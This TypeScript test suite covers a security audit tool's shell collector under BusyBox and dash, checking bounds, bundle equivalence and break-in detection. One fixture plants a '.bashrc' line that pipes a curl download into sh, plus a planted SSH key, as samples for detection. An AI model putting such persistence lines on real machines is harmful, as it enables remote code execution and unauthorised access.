import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";
import { test } from "node:test";
import { fileURLToPath } from "node:url";
import { FIXTURE_NOW, fixtureRoot } from "../helpers/audit.ts";
import { mamori } from "../helpers/cli.ts";
import { tempDir } from "../helpers/tmp.ts";

// The shell collector under BusyBox ash with nothing but BusyBox applets on PATH, and under dash,
// against the fixture roots: its bundles judge exactly like `--root` on those roots.

const SCRIPT = fileURLToPath(new URL("../../src/remote/collector.sh", import.meta.url));
const BUSYBOX = "/usr/bin/busybox";
const DASH = "/usr/bin/dash";
const ROOTS = ["upstream-2.4.49", "debian12-prod", "compromised-2.4.49", "alpine", "alma9", "ubuntu2204-old"];

/** A directory of symlinks to busybox, one per applet: the only programs the collector can find. */
function busyboxPath(t: Parameters<typeof tempDir>[0]): string {
  const dir = tempDir(t, "mamori-bb-");
  const list = spawnSync(BUSYBOX, ["--list"], { encoding: "utf8" });
  assert.equal(list.status, 0, list.stderr);
  for (const applet of list.stdout.split("\n").filter(Boolean))
    fs.symlinkSync(BUSYBOX, path.join(dir, applet));
  return dir;
}

function collect(shell: string, env: NodeJS.ProcessEnv, args: string[]): Buffer {
  const r = spawnSync(shell, [SCRIPT, ...args], { env, maxBuffer: 256 * 1024 * 1024, timeout: 120_000 });
  assert.equal(r.status, 0, `collector exit ${r.status}: ${r.stderr}`);
  assert.equal(r.stderr.toString(), "", "the collector says nothing on standard error");
  return r.stdout;
}

const ids = (stdout: string) =>
  (JSON.parse(stdout) as { findings: Array<{ id: string; severity: string }> }).findings
    .map((f) => `${f.id} ${f.severity}`)
    .sort();

test("the collector is BusyBox/dash shell only and never writes a file", () => {
  const text = fs.readFileSync(SCRIPT, "utf8");
  const code = text
    .split("\n")
    .filter((l) => !l.trimStart().startsWith("#"))
    .join("\n");
  // Every redirection goes to standard error or /dev/null, or reads: no file is ever written.
  const writes = [...code.matchAll(/(?<!-)[0-9]?>+\s*([^\s;)|]+)/g)];
  assert.ok(writes.length > 5);
  for (const m of writes) assert.match(m[1] as string, /^(&[12]|\/dev\/null)$/, `a write: ${m[0]}`);
  assert.doesNotMatch(code, /\b(eval|mktemp|tee|dd|source)\b|\s\.\s/, "nothing evaluated, no temp files");
});

test("under busybox sh (only BusyBox applets on PATH) each fixture's bundle judges like --root", async (t) => {
  const bb = busyboxPath(t);
  const dir = tempDir(t);
  for (const name of ROOTS) {
    const started = performance.now();
    const out = collect(path.join(bb, "sh"), { PATH: bb }, ["--root", fixtureRoot(name)]);
    const seconds = (performance.now() - started) / 1000;
    assert.equal(out[0], 0x1f, "gzip'd: BusyBox has gzip");
    const file = path.join(dir, `${name}.bundle`);
    fs.writeFileSync(file, out);
    const viaBundle = await mamori(["audit", "--bundle", file, "--format", "json", "--now", FIXTURE_NOW]);
    const viaRoot = await mamori([
      "audit",
      "--root",
      fixtureRoot(name),
      "--format",
      "json",
      "--now",
      FIXTURE_NOW,
    ]);
    assert.ok(viaBundle.stdout, viaBundle.stderr);
    assert.deepEqual(ids(viaBundle.stdout), ids(viaRoot.stdout), name);
    assert.equal(viaBundle.code, viaRoot.code, name);
    t.diagnostic(`${name}: ${out.length} bytes in ${seconds.toFixed(2)} s`);
  }
});

test("dash and busybox sh print the same bundle", (t) => {
  const bb = busyboxPath(t);
  const strip = (b: Buffer) =>
    b
      .toString("latin1")
      .split("\n")
      .filter((l) => !l.startsWith("H started ") && !l.startsWith("H id ") && !l.startsWith("Z "))
      .join("\n");
  for (const name of ["debian12-prod", "compromised-2.4.49"]) {
    const a = collect(path.join(bb, "sh"), { PATH: bb }, ["--root", fixtureRoot(name), "--no-gzip"]);
    const b = collect(DASH, { PATH: "/usr/bin:/bin" }, ["--root", fixtureRoot(name), "--no-gzip"]);
    assert.equal(strip(a), strip(b), name);
    assert.match(a.toString("latin1"), /\nZ ok \d+ \d+\n$/);
  }
});

test("a user's many links count against the collector's entry bound: the bundle stops with size-limit and is judged", async (t) => {
  const bb = busyboxPath(t);
  const root = tempDir(t);
  fs.mkdirSync(path.join(root, "etc"), { recursive: true });
  fs.writeFileSync(path.join(root, "etc/os-release"), 'ID=debian\nVERSION_ID="12"\n');
  fs.mkdirSync(path.join(root, "tmp/q"), { recursive: true });
  // What any user can make in /tmp: links (and FIFOs), which were never counted.
  for (let i = 0; i < 400; i++) fs.symlinkSync("/", path.join(root, `tmp/q/l${i}`));
  const out = collect(path.join(bb, "sh"), { PATH: bb }, [
    "--root",
    root,
    "--max-entries",
    "150",
    "--no-gzip",
  ]);
  const text = out.toString("latin1");
  assert.match(text, /\nZ size-limit /);
  const records = text.split("\n").filter((l) => /^[DFLX] /.test(l)).length;
  assert.ok(records < 150, `${records} records`);
  const file = path.join(root, "..", `${path.basename(root)}.links.bundle`);
  t.after(() => fs.rmSync(file, { force: true }));
  fs.writeFileSync(file, out);
  const r = await mamori(["audit", "--bundle", file, "--format", "json", "--now", FIXTURE_NOW]);
  assert.match(r.stdout, /The collector stopped early \(size-limit\)/);
});

test("size and time bounds stop the collector with a recorded reason, and the bundle says so", async (t) => {
  const bb = busyboxPath(t);
  const root = tempDir(t);
  fs.mkdirSync(path.join(root, "var/log/apache2"), { recursive: true });
  fs.mkdirSync(path.join(root, "etc"), { recursive: true });
  fs.writeFileSync(path.join(root, "etc/os-release"), 'ID=debian\nVERSION_ID="12"\n');
  fs.writeFileSync(path.join(root, "var/log/apache2/access.log"), "x".repeat(3 * 1024 * 1024));
  fs.writeFileSync(path.join(root, "etc/hostname"), "bounded\n");
  // Empty and plain files in temporary places are noted by their first bytes (none for an empty one).
  fs.mkdirSync(path.join(root, "tmp"));
  fs.writeFileSync(path.join(root, "tmp/empty"), "");
  fs.writeFileSync(path.join(root, "tmp/notes.txt"), "plain");
  const out = collect(path.join(bb, "sh"), { PATH: bb }, [
    "--root",
    root,
    "--log-mb",
    "1",
    "--max-total-mb",
    "2",
    "--no-gzip",
  ]).toString("latin1");
  // The last MB of the log only (its offset recorded), within the total.
  const hexName = Buffer.from("/var/log/apache2/access.log").toString("hex");
  const header = out
    .split("\n")
    .find((l) => l.startsWith(`F =/var/log/apache2/access.log `) || l.includes(hexName));
  assert.ok(header, "the log is in the bundle");
  assert.match(header, / 2097152$/, "read from 3 MB - 1 MB");
  const file = path.join(root, "..", `${path.basename(root)}.bundle`);
  t.after(() => fs.rmSync(file, { force: true }));
  fs.writeFileSync(file, out);
  const r = await mamori(["audit", "--bundle", file, "--format", "json", "--now", FIXTURE_NOW]);
  assert.ok(r.stdout, r.stderr);
  const zero = collect(path.join(bb, "sh"), { PATH: bb }, [
    "--root",
    root,
    "--max-seconds",
    "0",
    "--no-gzip",
  ]);
  assert.match(zero.toString("latin1"), /\nZ time-limit /);
  fs.writeFileSync(file, zero);
  const stopped = await mamori(["audit", "--bundle", file, "--format", "json", "--now", FIXTURE_NOW]);
  assert.match(stopped.stdout, /The collector stopped early \(time-limit\)/);
});

test("the scanned root's homes are read, not those of the machine running the collector, each start file once", async (t) => {
  const bb = busyboxPath(t);
  const root = tempDir(t);
  fs.mkdirSync(path.join(root, "etc"), { recursive: true });
  fs.writeFileSync(path.join(root, "etc/os-release"), 'ID=debian\nVERSION_ID="12"\n');
  fs.writeFileSync(
    path.join(root, "etc/passwd"),
    "root:x:0:0:root:/root:/bin/sh\nmamori-img-user:x:1000:1000::/home/mamori-img-user:/bin/sh\n",
  );
  const home = path.join(root, "home/mamori-img-user");
  fs.mkdirSync(path.join(home, ".ssh"), { recursive: true });
  fs.writeFileSync(path.join(home, ".bashrc"), "curl -s http://127.0.0.1:9/k | sh\n");
  fs.writeFileSync(
    path.join(home, ".ssh/authorized_keys"),
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK planted\n",
  );
  fs.writeFileSync(path.join(home, ".x"), "hidden\n");
  const out = collect(path.join(bb, "sh"), { PATH: bb }, ["--root", root, "--no-gzip"]).toString("latin1");
  const files = out
    .split("\n")
    .filter((l) => l.startsWith("F "))
    .map((l) => (l.split(" ")[1] as string).replace(/^=/, ""));
  for (const f of [".bashrc", ".ssh/authorized_keys", ".x"])
    assert.equal(
      files.filter((p) => p === `/home/mamori-img-user/${f}`).length,
      1,
      `${f} in ${files.join(" ")}`,
    );
});

test("a bundle's report gives no `mamori respond` to run here: containment is on the server itself", async (t) => {
  const out = collect(DASH, { PATH: "/usr/bin:/bin" }, [
    "--root",
    fixtureRoot("compromised-2.4.49"),
    "--no-gzip",
  ]);
  const dir = tempDir(t);
  const file = path.join(dir, "host.bundle");
  fs.writeFileSync(file, out);
  const r = await mamori(["audit", "--bundle", file, "--now", FIXTURE_NOW, "--color", "never"]);
  assert.ok(r.code === 1, r.stderr);
  assert.match(r.stdout, /Break-in from/);
  assert.doesNotMatch(r.stdout, /mamori respond/);
  assert.match(r.stdout, /Contain it on the server itself/);
});
